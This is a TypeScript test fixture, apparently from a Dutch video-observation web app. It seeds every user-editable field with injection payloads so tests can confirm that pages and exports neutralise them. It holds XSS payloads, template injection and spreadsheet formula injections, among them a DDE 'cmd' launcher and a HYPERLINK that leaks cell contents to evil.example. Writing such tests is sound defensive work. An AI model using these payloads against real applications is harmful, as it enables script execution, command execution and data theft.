/**
 * Script, markup and formula payloads in every free-text field a person can fill — room title and
 * description, staff and participant names, observations, the werkblad, fragments, aandachtspunten,
 * leerpunten, client feedback, consent, trajects, a video's file name — for the tests that check
 * every view and every export renders them inert. An element that carries MARK in any page or
 * rendered export is an injection.
 */
import { INVITE_ROLES } from '../../shared/access/roles.ts';
import type { Room } from '../../shared/api/schemas.ts';
import { addAandachtspunt, addFragment, setLeerpunt, setMetaText, META, themeTextKey } from '../../shared/kijkwijzer/doc.ts';
import { addObservation } from '../../shared/notes/doc.ts';
import { sharedDocName } from '../../server/src/notes/endpoint.ts';
import { HttpClient } from './http.ts';
import { FIXTURE, giveConsent, TusClient } from './media.ts';
import type { TestServer } from './server.ts';
import { ok, staffMember } from './world.ts';
import { signedInAdmin } from './scenario.ts';

export const MARK = 'data-xss';

export const PAYLOADS = [
  `<img src=x ${MARK} onerror="window.__xss=1">`,
  `<script ${MARK}>window.__xss=1</script>`,
  `"><svg ${MARK} onload="window.__xss=1">`,
  `'><iframe ${MARK} src="javascript:window.__xss=1"></iframe>`,
  `[klik hier](javascript:window.__xss=1) ![x](x" onerror="window.__xss=1)`,
  `=HYPERLINK("http://evil.example/?"&A1,"klik")`,
  `+31 6 1234 5678`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `00:00:01.000 --> 00:00:02.000 <b ${MARK}>nep</b>`,
  `eerste\n\nWEBVTT\n\n00:00:00.000 --> 00:00:09.000\nnep-cue`,
  `</ANNOTATION_VALUE></ANNOTATION><script ${MARK}/>]]><!--`,
  `&lt;img src=x ${MARK}&gt; &amp; &#60;b&#62;`,
  `{{constructor.constructor('window.__xss=1')()}} \${7*7}`,
  `# kop\n- lijst\n<details open ${MARK} ontoggle="window.__xss=1">x</details>`,
];
/** Short ones for fields of at most 60 characters (names, labels). */
export const SHORT = [`=1+1<img src=x ${MARK}>`, `@x<svg ${MARK} onload=alert(1)>`, `-1"><b ${MARK}>`, `+1</ANNOTATION_VALUE><i ${MARK}>`];

/** Formula triggers a spreadsheet acts on at the start of a cell. */
export const FORMULA_START = /^[=+\-@\t\r]/;

export interface HostileRoom {
  room: Room;
  /** The staff member (with a hostile name) who owns the room. */
  host: HttpClient;
  hostLogin: { email: string; password: string };
  guests: HttpClient[];
  guestNames: string[];
  fragmentIds: string[];
  trajectId: string;
  inviteToken: string;
}

export async function hostileRoom(server: TestServer): Promise<HostileRoom> {
  const admin = await signedInAdmin(server);
  const hostLogin = { email: 'xss@kijkkamer.test', password: 'een-wachtwoord-123' };
  const host = await staffMember(server, admin, { name: SHORT[0]!, ...hostLogin });
  const room = await ok(host.post<Room>('/api/rooms', { title: `${PAYLOADS[1]}"'&${PAYLOADS[5]}`.slice(0, 120), description: PAYLOADS.join('\n').slice(0, 2000) }), 201, 'room');

  const guests: HttpClient[] = [];
  const guestNames: string[] = [];
  for (const [i, role] of ['klantmanager', 'onderzoeker', 'coach', 'collega'].entries()) {
    const { token } = await ok(host.post<{ token: string }>(`/api/rooms/${room.id}/invites`, { role }), 201, 'invite');
    const guest = new HttpClient(server.url);
    const name = SHORT[i % SHORT.length]! + i;
    await ok(guest.post(`/api/rooms/${room.id}/join`, { token, displayName: name }), 201, 'join');
    guests.push(guest);
    guestNames.push(name);
  }
  const { token: inviteToken } = await ok(host.post<{ token: string }>(`/api/rooms/${room.id}/invites`, { role: INVITE_ROLES[5] }), 201, 'invite');

  await giveConsent(host, room.id, { clientLabel: SHORT[1]!, note: PAYLOADS[0]!, allowedRoles: ['klantmanager', 'onderzoeker', 'coach', 'collega'], fragmentsOutsideRoom: true });
  const uploaded = await new TusClient(host, room.id).upload(FIXTURE, 64 * 1024, `${SHORT[2]!}.mp4`);
  if (uploaded.status !== 204) throw new Error(`upload: ${uploaded.status}`);
  // Every guest watches once, so their names are in the access log.
  for (const guest of guests) await ok(guest.post(`/api/rooms/${room.id}/media/plays`, {}), 204, 'play');

  const doc = await server.app.services.notes.getDoc(sharedDocName(room.id));
  const me = (await host.get<{ me: { participantId: string } }>(`/api/rooms/${room.id}`)).body.me;
  PAYLOADS.forEach((text, i) =>
    addObservation(doc, { start: i * 1.5, end: i % 2 ? i * 1.5 + 1 : null, themes: ['emotie'], kind: i % 3 ? 'zie' : 'vraag', text, authorId: me.participantId, authorName: guestNames[i % guestNames.length]!, role: 'klantmanager' }),
  );
  setMetaText(doc, META.goal, PAYLOADS[0]!);
  setMetaText(doc, META.watchWithOther, PAYLOADS[2]!);
  setMetaText(doc, themeTextKey('emotie', 'vraag'), PAYLOADS[3]!);
  setMetaText(doc, themeTextKey('emotie', 'anders'), PAYLOADS[16]!);
  const fragmentIds = [0, 1, 2].map((i) => addFragment(doc, { start: 1 + i * 4, end: 3 + i * 4, title: PAYLOADS[i * 4]!.slice(0, 200), question: PAYLOADS[i * 4 + 1]!, themes: ['emotie'] }));
  addAandachtspunt(doc, { text: PAYLOADS[4]!, fragmentIds: [fragmentIds[0]!], observationIds: [], authorId: me.participantId, authorName: SHORT[0]! });
  setLeerpunt(doc, { id: 'l1', sourceRoomId: room.id, aandachtspunt: PAYLOADS[0]!, tried: PAYLOADS[1]!, outcome: PAYLOADS[12]!, authorId: me.participantId, authorName: SHORT[3]! });
  for (const id of fragmentIds) await ok(host.put(`/api/rooms/${room.id}/fragments/${id}/feedback`, { text: PAYLOADS[5]! + PAYLOADS[0]! }), 200, 'feedback');

  const { id: trajectId } = await ok(host.post<{ id: string }>('/api/trajects', { title: PAYLOADS[1]!.slice(0, 120), klantmanagerName: SHORT[1]! }), 201, 'traject');
  await ok(host.put(`/api/rooms/${room.id}/traject`, { trajectId }), 204, 'traject');
  return { room, host, hostLogin, guests, guestNames, fragmentIds, trajectId, inviteToken };
}
